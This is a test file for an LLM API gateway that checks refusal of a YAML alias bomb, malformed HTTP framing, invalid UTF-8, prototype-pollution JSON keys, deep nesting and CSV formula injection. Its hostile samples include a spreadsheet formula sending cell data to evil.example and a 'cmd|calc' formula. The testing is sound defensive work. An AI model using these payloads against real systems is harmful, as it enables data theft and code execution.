import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkPolicyText } from '../local-gateway/policy/validate.js';
import { startGateway, TEST_TOKEN, type TestGateway } from './helpers/gateway.js';

let gw: TestGateway;

beforeAll(async () => {
  gw = await startGateway();
});
afterAll(async () => {
  await gw.close();
});

const auth = { authorization: `Bearer ${TEST_TOKEN}`, 'content-type': 'application/json' };

/** The billion-laughs shape: each level names the one above nine times, so expanding it is exponential. */
function aliasBomb(levels = 12): string {
  const lines = ['apiVersion: gatehouse/v1', 'org: acme', 'version: 1', 'x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
  for (let i = 1; i < levels; i++) lines.push(`x${i}: &a${i} [${Array.from({ length: 9 }, () => `*a${i - 1}`).join(', ')}]`);
  lines.push(`tiers: { dev: { metadata: { required: *a${levels - 1} } } }`);
  return lines.join('\n');
}

describe('a YAML alias bomb is refused as a bad policy, not a crash', () => {
  it('POST /api/policy/replay answers 400 GH_ERR_INVALID_POLICY naming the aliases', async () => {
    const res = await fetch(`${gw.url}/api/policy/replay`, { method: 'POST', headers: auth, body: JSON.stringify({ policy: aliasBomb() }) });
    const body = (await res.json()) as { error: { code: string; param: string; message: string } };
    expect(res.status).toBe(400);
    expect(body.error).toMatchObject({ code: 'GH_ERR_INVALID_POLICY', param: 'policy' });
    expect(body.error.message).toMatch(/alias/i);
  });

  it('the loader every policy path shares reports it as a problem', () => {
    const r = checkPolicyText(aliasBomb(), 'policy.yaml');
    expect(r.ok).toBe(false);
  });
});

/** Sends bytes on a fresh connection and returns everything the server answered before it closed. */
function rawExchange(data: string): Promise<{ status: number; body: unknown }> {
  const { port } = new URL(gw.url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), '127.0.0.1', () => socket.write(data));
    let out = '';
    socket.on('data', (d) => (out += d.toString('utf8')));
    socket.on('error', () => {});
    socket.on('close', () => {
      const m = /^HTTP\/1\.1 (\d{3})[^]*?\r\n\r\n([^]*)$/.exec(out);
      if (!m) return reject(new Error(`not an HTTP answer: ${out.slice(0, 200)}`));
      resolve({ status: Number(m[1]), body: JSON.parse(m[2]!) as unknown });
    });
  });
}

const CHUNKED_BAD = (path: string, extra = '') =>
  `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nauthorization: Bearer ${TEST_TOKEN}\r\ncontent-type: application/json\r\n${extra}transfer-encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`;

describe("HTTP-level refusals (header size, framing, path length) come in the caller's API shape", () => {
  it('a 100 KB header: 431 in the OpenAI shape on chat, the Anthropic shape on Messages', async () => {
    const big = `x-big: ${'a'.repeat(100_000)}\r\n`;
    const chat = await rawExchange(`POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n${big}\r\n`);
    expect(chat.status).toBe(431);
    expect(chat.body).toMatchObject({ error: { code: 'GH_ERR_HEADERS_TOO_LARGE', type: 'invalid_request_error' } });
    const messages = await rawExchange(`POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\nanthropic-version: 2023-06-01\r\n${big}\r\n`);
    expect(messages.status).toBe(431);
    expect(messages.body).toMatchObject({ type: 'error', error: { type: 'invalid_request_error' } });
  });

  it('a malformed chunked body: 400 in the API shape', async () => {
    const chat = await rawExchange(CHUNKED_BAD('/v1/chat/completions'));
    expect(chat.status).toBe(400);
    expect(chat.body).toMatchObject({ error: { code: 'GH_ERR_BAD_HTTP', type: 'invalid_request_error' } });
    const messages = await rawExchange(CHUNKED_BAD('/v1/messages', 'anthropic-version: 2023-06-01\r\n'));
    expect(messages.status).toBe(400);
    expect(messages.body).toMatchObject({ type: 'error', error: { type: 'invalid_request_error' } });
  });

  it('an over-long path parameter: 414 in the API shape', async () => {
    const res = await fetch(`${gw.url}/api/traces/${'x'.repeat(600)}`, { headers: auth });
    expect(res.status).toBe(414);
    const body = (await res.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe('GH_ERR_URI_TOO_LONG');
    expect(body.error.message.length).toBeLessThan(400);
    const anthropic = await fetch(`${gw.url}/api/traces/${'x'.repeat(600)}`, { headers: { ...auth, 'anthropic-version': '2023-06-01' } });
    expect(anthropic.status).toBe(414);
    expect(await anthropic.json()).toMatchObject({ type: 'error', error: { type: 'invalid_request_error' } });
  });
});

describe('invalid UTF-8 inside a JSON string is refused, not replaced with U+FFFD', () => {
  const body = (prefix: string) => Buffer.concat([Buffer.from(`${prefix}"messages":[{"role":"user","content":"bad `), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(' bytes"}]}')]);

  it('on chat: 400 in the OpenAI shape, and a readable trace', async () => {
    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body: body('{"model":"demo/echo",') });
    const answer = (await res.json()) as { error: { code: string; message: string } };
    expect(res.status).toBe(400);
    expect(answer.error.code).toBe('GH_ERR_INVALID_UTF8');
    expect(answer.error.message).toMatch(/UTF-8/);
    const trace = await gw.api<{ status: number; error_code: string }>(`/api/traces/${res.headers.get('x-gatehouse-trace-id')}`);
    expect(trace).toMatchObject({ status: 400, error_code: 'GH_ERR_INVALID_UTF8' });
  });

  it('on Messages: 400 in the Anthropic shape', async () => {
    const res = await fetch(`${gw.url}/v1/messages`, { method: 'POST', headers: { ...auth, 'anthropic-version': '2023-06-01' }, body: body('{"model":"demo/echo","max_tokens":10,') });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ type: 'error', error: { type: 'invalid_request_error' } });
  });

  it('valid multi-byte UTF-8 still passes', async () => {
    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body: Buffer.from(JSON.stringify({ model: 'demo/echo', messages: [{ role: 'user', content: 'héllo 日本 🚀' }] })) });
    expect(res.status).toBe(200);
    expect(JSON.stringify(await res.json())).toContain('héllo 日本 🚀');
  });
});

describe('the usage CSV cannot carry a spreadsheet formula', () => {
  it('a metadata value starting with =, +, -, @, tab or CR is exported as text', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    for (const project of hostile) {
      const res = await fetch(`${gw.url}/v1/chat/completions`, {
        method: 'POST',
        headers: { ...auth, 'x-gatehouse-metadata': JSON.stringify({ project }) },
        body: JSON.stringify({ model: 'demo/echo', messages: [{ role: 'user', content: 'x' }] }),
      });
      expect(res.status).toBe(200);
    }
    const res = await fetch(`${gw.url}/api/usage?by=project&format=csv`, { headers: auth });
    const text = await res.text();
    const keys = text.trimEnd().split('\r\n').slice(1).map((row) => row.split(',')[1]!);
    for (const key of keys) expect(key, text).not.toMatch(/^"?[=+\-@\t\r]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(text).toContain("'-2+3");
  });
});

describe('a body starting with a UTF-8 BOM keeps its trace, and the importer thread survives', () => {
  it('the BOM body is answered and traced, and later traces are still imported by the importer thread', async () => {
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify({ model: 'demo/echo', messages: [{ role: 'user', content: 'with a BOM' }] }))]);
    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body: bom });
    expect(res.status).toBe(200);
    const trace = await gw.api<{ request_body: unknown }>(`/api/traces/${res.headers.get('x-gatehouse-trace-id')}`);
    expect(trace.request_body).toMatchObject({ messages: [{ content: 'with a BOM' }] });
    const later = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body: JSON.stringify({ model: 'demo/echo', messages: [{ role: 'user', content: 'after' }] }) });
    await gw.api(`/api/traces/${later.headers.get('x-gatehouse-trace-id')}`);
    // The importer is still the one storing: its thread is alive.
    expect(gw.app.gateway.writer.storesInline).toBe(false);
  });

  it('a large BOM body is stored without the BOM, exactly as sent', async () => {
    const sent = { model: 'demo/echo', messages: [{ role: 'user', content: 'größer 🙂 '.repeat(2_000) }] };
    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(sent))]) });
    expect(res.status).toBe(200);
    const trace = await gw.api<{ request_body: unknown }>(`/api/traces/${res.headers.get('x-gatehouse-trace-id')}`);
    expect(trace.request_body).toEqual(sent);
  });
});

describe('a body with a key that reaches a prototype is refused, however it is spelled or nested', () => {
  const bodies = {
    'a top-level __proto__': '{"model":"demo/echo","messages":[{"role":"user","content":"x"}],"__proto__":{"polluted":true}}',
    'an escaped __proto__ in a message': '{"model":"demo/echo","messages":[{"role":"user","content":"x","\\u005f_proto__":{"polluted":true}}]}',
    'constructor.prototype deep inside': '{"model":"demo/echo","messages":[{"role":"user","content":"x"}],"tools":[{"a":{"constructor":{"prototype":{"polluted":true}}}}]}',
  };
  for (const [name, body] of Object.entries(bodies)) {
    it(`${name}: 400 GH_ERR_INVALID_JSON, traced`, async () => {
      const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body });
      expect(res.status).toBe(400);
      expect(((await res.json()) as { error: { code: string } }).error.code).toBe('GH_ERR_INVALID_JSON');
      const trace = await gw.api<{ status: number; error_code: string }>(`/api/traces/${res.headers.get('x-gatehouse-trace-id')}`);
      expect(trace).toMatchObject({ status: 400, error_code: 'GH_ERR_INVALID_JSON' });
    });
  }

  it('the words themselves in text, and a constructor key that is not an object with a prototype, are fine', async () => {
    const body = JSON.stringify({ model: 'demo/echo', messages: [{ role: 'user', content: 'what do "__proto__": and constructor.prototype do?' }], metadata_note: { constructor: 'a string' } });
    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body });
    expect(res.status).toBe(200);
  });
});

describe('JSON nesting is limited to 256 levels, and every stored trace stays readable', () => {
  const nested = (levels: number) => `{"model":"demo/echo","max_tokens":5,"messages":[{"role":"user","content":"x"}],"extra":${'['.repeat(levels - 1)}${']'.repeat(levels - 1)}}`;

  for (const [path, headers] of [['/v1/chat/completions', {}], ['/v1/messages', { 'anthropic-version': '2023-06-01' }], ['/v1/responses', {}]] as const) {
    it(`${path}: 100,000 and 10,000 levels are a 400 naming the limit, with a readable trace`, async () => {
      for (const levels of [100_000, 10_000, 258]) {
        const res = await fetch(gw.url + path, { method: 'POST', headers: { ...auth, ...headers }, body: nested(levels) });
        const text = await res.text();
        expect(res.status, text.slice(0, 300)).toBe(400);
        expect(text).toContain('256');
        const trace = await fetch(`${gw.url}/api/traces/${res.headers.get('x-gatehouse-trace-id')}`, { headers: auth });
        expect(trace.status).toBe(200);
        expect(await trace.json()).toMatchObject({ status: 400, error_code: 'GH_ERR_JSON_TOO_DEEP' });
      }
    });
  }

  it('256 levels are accepted and the trace is readable', async () => {
    const res = await fetch(`${gw.url}/v1/chat/completions`, { method: 'POST', headers: auth, body: nested(256) });
    expect(res.status).toBe(200);
    const trace = await fetch(`${gw.url}/api/traces/${res.headers.get('x-gatehouse-trace-id')}`, { headers: auth });
    expect(trace.status).toBe(200);
  });
});
